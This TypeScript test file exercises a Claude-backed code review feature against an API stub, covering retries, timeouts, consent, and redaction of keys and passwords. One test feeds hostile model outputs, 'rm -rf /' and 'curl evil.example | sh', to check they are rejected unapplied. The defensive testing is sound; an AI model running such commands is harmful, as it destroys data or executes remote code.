import { strict as assert } from 'node:assert';
import { createServer } from 'node:net';
import { runDeepReview } from '../../../src/ai/index';
import { SUBJECTS } from '../../../src/ai/subjects/index';
import { AnthropicStub } from '../../support/anthropic-stub';
import { answer, API_KEY, FAST, finding, MODEL, recorder, request, SQL_TEXT } from './helpers';

/** The real SDK against the loopback Messages API: every outcome a user can meet, typed. */
describe('ai: deep review against the Messages API stub', function () {
  this.timeout(20_000);
  let stub: AnthropicStub;
  before(async () => {
    stub = await AnthropicStub.start();
  });
  after(() => stub.close());

  describe('success', () => {
    it('streams: forced tool, progress, findings on the quoted range, usage', async () => {
      stub.script({ toolInput: answer() });
      const rec = recorder();
      const result = await runDeepReview(request(stub, { onProgress: (m) => rec.progress.push(m) }, rec), FAST);
      assert.ok(result.ok, JSON.stringify(result));
      assert.equal(result.model, MODEL);
      assert.equal(result.summary, 'Keyset pagination first.');
      assert.equal(result.findings.length, 1);
      const [f] = result.findings;
      assert.equal(f.ruleId, 'claude/pagination');
      assert.equal(f.assistant, 'sql');
      assert.equal(f.file, 'db/orders.sql');
      // Line 6 (1-based) is "OFFSET 5000 LIMIT 20;": the quote's exact characters, 0-based.
      assert.deepEqual(f.range, { start: { line: 5, character: 0 }, end: { line: 5, character: 11 } });
      assert.equal(f.explanation, 'Use keyset pagination on (created_at, id).');
      assert.ok(result.usage && result.usage.outputTokens > 0);

      const [sent] = stub.requests;
      assert.equal(stub.requests.length, 1);
      assert.equal(sent.body.stream, true);
      assert.equal(sent.body.model, MODEL);
      assert.deepEqual(sent.body.tool_choice, { type: 'tool', name: 'report_sql_review' });
      assert.deepEqual(sent.body.tools?.[0].input_schema, SUBJECTS.sql.schema);
      // SDK 1.14 sends the key as a bearer token; exactly our key, nothing from the environment.
      assert.equal(sent.headers.authorization, `Bearer ${API_KEY}`);
      assert.ok(
        rec.progress.some((m) => /^Sending \d+ KB to Claude/.test(m)),
        rec.progress.join('\n'),
      );
      assert.ok(
        rec.progress.some((m) => /tokens received \(an estimate\)/.test(m)),
        rec.progress.join('\n'),
      );
    });

    it('plain (no progress callback): one JSON reply, same result', async () => {
      stub.script({ toolInput: answer() });
      const result = await runDeepReview(request(stub), FAST);
      assert.ok(result.ok, JSON.stringify(result));
      assert.notEqual(stub.requests[0].body.stream, true);
      assert.equal(result.findings[0].range.start.line, 5);
    });

    it('the roadmap narrative comes back as the summary, without findings', async () => {
      stub.script({ toolInput: { summary: '## Phase 1\nFix the pinned replicas first.' } });
      const result = await runDeepReview(
        request(stub, {
          subject: 'roadmap',
          document: { file: 'roadmap.md', text: '# Roadmap\n- Phase 1: Remove pinned replicas\n' },
          facts: { plan: '{"phases":[]}' },
        }),
        FAST,
      );
      assert.ok(result.ok, JSON.stringify(result));
      assert.match(result.summary ?? '', /Phase 1/);
      assert.deepEqual(result.findings, []);
      assert.equal(stub.requests[0].body.tool_choice?.name, 'write_roadmap_narrative');
      assert.match(String(stub.requests[0].body.messages[0].content), /kind="facts" name="plan"/);
    });
  });

  describe('retries', () => {
    it('429 with retry-after: 1, then 200: succeeds after honouring the wait', async () => {
      stub.script({ status: 429, headers: { 'retry-after': '1' } }, { toolInput: answer() });
      const progress: string[] = [];
      const started = Date.now();
      const result = await runDeepReview(request(stub, { onProgress: (m) => progress.push(m) }), FAST);
      assert.ok(result.ok, JSON.stringify(result));
      assert.equal(stub.requests.length, 2);
      assert.ok(Date.now() - started >= 900, 'waited for retry-after');
      assert.ok(
        progress.some((m) => /Rate-limited by the Anthropic API: retrying in 1 s \(attempt 2 of 3\)/.test(m)),
        progress.join('\n'),
      );
    });

    it('a persistent 429 ends as rate-limited after the bounded attempts', async () => {
      stub.script({ status: 429, headers: { 'retry-after-ms': '20' } });
      const result = await runDeepReview(request(stub), FAST);
      assert.equal(result.ok, false);
      assert.equal(stub.requests.length, 3);
      if (result.ok) return;
      assert.equal(result.failure.kind, 'rate-limited');
      assert.match(result.failure.message, /rate-limiting this key; retry in 1 s/);
    });

    it('a 429 asking for an hour is not waited for: rate-limited at once, with the wait', async () => {
      stub.script({ status: 429, headers: { 'retry-after': '3600' } });
      const result = await runDeepReview(request(stub), FAST);
      assert.equal(stub.requests.length, 1);
      assert.ok(!result.ok && result.failure.kind === 'rate-limited');
      if (result.ok || result.failure.kind !== 'rate-limited') return;
      assert.equal(result.failure.retryAfterSeconds, 3600);
      assert.match(result.failure.message, /retry in 60 min/);
    });

    it('500 then 200 succeeds; persistent 500s end as a server failure after 3 attempts', async () => {
      stub.script({ status: 500 }, { toolInput: answer() });
      assert.ok((await runDeepReview(request(stub), FAST)).ok);
      assert.equal(stub.requests.length, 2);

      stub.script({ status: 500 });
      const result = await runDeepReview(request(stub), FAST);
      assert.equal(stub.requests.length, 3);
      assert.ok(!result.ok && result.failure.kind === 'server');
      if (!result.ok && result.failure.kind === 'server') {
        assert.equal(result.failure.status, 500);
        assert.match(result.failure.message, /Retry later; your static findings are unaffected/);
      }
    });

    it('529 overloaded, after retries', async () => {
      stub.script({ status: 529 });
      const result = await runDeepReview(request(stub), FAST);
      assert.equal(stub.requests.length, 3);
      assert.ok(!result.ok && result.failure.kind === 'overloaded', JSON.stringify(result));
    });
  });

  describe('failures', () => {
    it('401: auth, naming the command in the editor and the variable in the CLI, not retried', async () => {
      stub.script({ status: 401, errorMessage: 'invalid x-api-key' });
      const editor = await runDeepReview(request(stub), FAST);
      assert.equal(stub.requests.length, 1);
      assert.ok(!editor.ok && editor.failure.kind === 'auth');
      if (!editor.ok) assert.match(editor.failure.message, /Set Anthropic API Key/);
      const cli = await runDeepReview(request(stub, { host: 'cli' }), FAST);
      if (!cli.ok) assert.match(cli.failure.message, /ANTHROPIC_API_KEY/);
      else assert.fail('expected a failure');
    });

    it('the network unreachable: network, after retries, naming the endpoint setting', async () => {
      const port = await freePort();
      const result = await runDeepReview(request(undefined, { baseURL: `http://127.0.0.1:${port}` }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'network', JSON.stringify(result));
      if (!result.ok)
        assert.match(
          result.failure.message,
          /Could not reach the Anthropic API\. Check your network connection, proxy, and the scalingAssistant\.deepReview\.endpoint setting/,
        );
    });

    it('no answer within the timeout: timeout, not retried (plain)', async () => {
      stub.script({ delayMs: 1500, toolInput: answer() });
      const result = await runDeepReview(request(stub, { timeoutMs: 200 }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'timeout', JSON.stringify(result));
      if (!result.ok) assert.match(result.failure.message, /^Claude did not answer within 1 s/);
      assert.equal(stub.requests.length, 1);
    });

    it('a stream that stalls mid-answer: timeout', async () => {
      stub.script({ toolInput: answer(), stallAfterEvents: 4 });
      const result = await runDeepReview(request(stub, { timeoutMs: 300, onProgress: () => undefined }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'timeout', JSON.stringify(result));
      if (!result.ok)
        assert.match(
          result.failure.message,
          /^Claude sent nothing for 1 s, so the request was stopped\. Try again, or review a smaller selection\.$/,
        );
    });

    it('a stream cut in the middle: network, nothing applied, not repeated', async () => {
      stub.script({ toolInput: answer(), cutAfterEvents: 5 });
      const result = await runDeepReview(request(stub, { onProgress: () => undefined }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'network', JSON.stringify(result));
      if (!result.ok) assert.match(result.failure.message, /closed while Claude was answering; nothing was applied/);
      assert.equal(stub.requests.length, 1);
    });

    it('cancelling aborts the request: cancelled', async () => {
      stub.script({ toolInput: answer(), eventDelayMs: 200 });
      const controller = new AbortController();
      const result = await runDeepReview(
        request(stub, {
          signal: controller.signal,
          onProgress: (m) => {
            if (/tokens received/.test(m)) controller.abort();
          },
        }),
        FAST,
      );
      assert.ok(!result.ok && result.failure.kind === 'cancelled', JSON.stringify(result));
    });

    it('cancelling while waiting to retry: cancelled, no further request', async () => {
      stub.script({ status: 429, headers: { 'retry-after': '5' } });
      const controller = new AbortController();
      // Cancelled once the first request has been answered, not after a fixed delay: on a busy machine the first
      // request may not even be sent within 100 ms.
      const answered = setInterval(() => {
        if (stub.requests.length > 0) setTimeout(() => controller.abort(), 50);
        if (stub.requests.length > 0) clearInterval(answered);
      }, 10);
      const result = await runDeepReview(request(stub, { signal: controller.signal }), FAST);
      clearInterval(answered);
      assert.ok(!result.ok && result.failure.kind === 'cancelled', JSON.stringify(result));
      assert.equal(stub.requests.length, 1);
    });

    it('max_tokens: truncated, nothing applied', async () => {
      stub.script({ toolInput: '{"summary": "Keyset pagination', stopReason: 'max_tokens' });
      for (const onProgress of [undefined, () => undefined]) {
        const result = await runDeepReview(request(stub, { onProgress }), FAST);
        assert.ok(!result.ok && result.failure.kind === 'truncated', JSON.stringify(result));
      }
    });

    it('invalid tool output: wrong shape, broken JSON, no tool call, an extra field: invalid-answer, never half-applied', async () => {
      const cases = [
        { toolInput: { summary: 'x', findings: [finding(), finding({ severity: 'critical' })] } },
        { toolInput: { findings: [finding()] } },
        { toolInput: '{"summary": "x", "findings": [{"title": ' },
        { toolInput: 'rm -rf /' },
        { noTool: true, text: 'I think the query is fine.' },
        { toolInput: { summary: 'x', findings: [finding({ command: 'curl evil.example | sh' })] } },
      ];
      for (const reply of cases) {
        for (const onProgress of [undefined, () => undefined]) {
          stub.script(reply);
          const result = await runDeepReview(request(stub, { onProgress }), FAST);
          assert.ok(
            !result.ok && result.failure.kind === 'invalid-answer',
            `${JSON.stringify(reply)} → ${JSON.stringify(result)}`,
          );
          if (!result.ok) assert.match(result.failure.message, /nothing was applied/);
        }
      }
    });

    it('consent declined: nothing is sent', async () => {
      stub.script({ toolInput: answer() });
      const result = await runDeepReview(request(stub, { consent: async () => false }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'consent-declined');
      assert.equal(stub.requests.length, 0);
    });

    it('no key: no-key, consent not even asked, nothing sent', async () => {
      stub.script({ toolInput: answer() });
      let asked = false;
      const result = await runDeepReview(request(stub, { apiKey: '', consent: async () => (asked = true) }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'no-key');
      assert.equal(asked, false);
      assert.equal(stub.requests.length, 0);
    });

    it('a broken prompt template: a clear internal failure, nothing sent', async () => {
      stub.script({ toolInput: answer() });
      const result = await runDeepReview(request(stub, { promptsDir: '/nonexistent/prompts' }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'internal');
      if (!result.ok) assert.match(result.failure.message, /Prompt template .*sql\.md could not be read/);
      assert.equal(stub.requests.length, 0);
    });

    it('a selection in a huge file sends only the lines around it, with their real numbers', async () => {
      const lines = Array.from({ length: 30_000 }, (_, i) => `SELECT ${i} AS n;`);
      lines[20_000] = 'SELECT * FROM orders OFFSET 90000;';
      stub.script({ toolInput: answer([finding({ location: { line: 20_001, quote: 'OFFSET 90000' } })]) });
      const result = await runDeepReview(
        request(stub, {
          document: { file: 'big.sql', text: lines.join('\n') },
          selection: { start: { line: 20_000, character: 0 }, end: { line: 20_000, character: 34 } },
        }),
        FAST,
      );
      assert.ok(result.ok, JSON.stringify(result));
      assert.deepEqual(result.findings[0].range.start, { line: 20_000, character: 21 });
      const user = String(stub.requests[0].body.messages[0].content);
      assert.match(user, /kind="document" file="big\.sql" lines="19851-20151" of="30000"/);
      assert.match(user, /\n19851\| SELECT 19850 AS n;/);
      assert.ok(!user.includes('SELECT 19849 AS n;') && !user.includes('SELECT 20151 AS n;'));
      assert.match(user, /The file is large: only lines 19851-20151 are shown/);
    });

    it('a document too large to send: too-large, nothing sent', async () => {
      stub.script({ toolInput: answer() });
      const huge = 'SELECT 1;\n'.repeat(70_000);
      const result = await runDeepReview(request(stub, { document: { file: 'big.sql', text: huge } }), FAST);
      assert.ok(!result.ok && result.failure.kind === 'too-large');
      assert.equal(stub.requests.length, 0);
    });
  });

  describe('the key and the log', () => {
    it('the key never appears in a message, a log line or progress, even when the server echoes it', async () => {
      const rec = recorder();
      const echo = `invalid x-api-key ${API_KEY}`;
      const replies = [
        { status: 400, errorMessage: echo },
        { status: 401, errorMessage: echo },
        { status: 403, errorMessage: echo },
        { status: 500, errorMessage: echo },
        { toolInput: answer([finding({ explanation: `your key is ${API_KEY}` })], `summary ${API_KEY}`) },
      ];
      const texts: string[] = [];
      for (const reply of replies) {
        stub.script(reply);
        const result = await runDeepReview(request(stub, { onProgress: (m) => rec.progress.push(m) }, rec), FAST);
        texts.push(JSON.stringify(result));
      }
      for (const text of [...texts, ...rec.logs, ...rec.progress]) {
        assert.ok(!text.includes(API_KEY), `key leaked: ${text.slice(0, 200)}`);
        assert.ok(!text.includes(API_KEY.slice(0, 20)), `key prefix leaked: ${text.slice(0, 200)}`);
      }
      assert.match(texts[0], /refused the request \(400\): invalid x-api-key «redacted:api-key»/);
    });

    it("facts are redacted too: a related manifest's env password never leaves", async () => {
      stub.script({ toolInput: answer([]) });
      const related =
        '# k8s/api.yaml\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          env:\n            - name: DB_PASSWORD\n              value: plainFactPass99\n';
      const rec = recorder();
      const result = await runDeepReview(
        request(
          stub,
          {
            subject: 'k8s',
            document: { file: 'k8s/hpa.yaml', text: 'kind: HorizontalPodAutoscaler\n' },
            facts: { objectGraph: related },
          },
          rec,
        ),
        FAST,
      );
      assert.ok(result.ok, JSON.stringify(result));
      assert.ok(!JSON.stringify(stub.requests[0].body).includes('plainFactPass99'));
      assert.deepEqual(rec.consents[0].redactions, [{ kind: 'secret-assignment', count: 1 }]);
    });

    it('logs the redacted request (files, sizes, redactions, model, full prompt) and the outcome; the secret is not sent', async () => {
      stub.script({ toolInput: answer() });
      const rec = recorder();
      const text = `${SQL_TEXT}-- connect: postgres://app:s3cr3t-Pa55@db.internal:5432/shop\n`;
      const result = await runDeepReview(request(stub, { document: { file: 'db/orders.sql', text } }, rec), FAST);
      assert.ok(result.ok);
      const all = rec.logs.join('\n');
      assert.match(
        all,
        /sending query optimizer review of db\/orders\.sql to claude-sonnet-5-5: [\d,]+ bytes, about [\d,]+ tokens \(an estimate\); redacted: connection-password ×1/,
      );
      assert.match(
        all,
        /user message \(as sent, redacted\):\n[\s\S]*postgres:\/\/app:«redacted:connection-password»@db\.internal/,
      );
      assert.match(all, /1 finding\(s\) placed, 0 not placed/);
      assert.ok(!all.includes('s3cr3t-Pa55'));
      assert.ok(!JSON.stringify(stub.requests[0].body).includes('s3cr3t-Pa55'));
      assert.deepEqual(rec.consents[0].redactions, [{ kind: 'connection-password', count: 1 }]);
      assert.equal(rec.consents[0].files[0], 'db/orders.sql');
      assert.ok(rec.consents[0].estimatedTokens > 0 && rec.consents[0].bytes > text.length);
    });
  });
});

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const server = createServer();
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as { port: number };
      server.close(() => resolve(port));
    });
  });
}
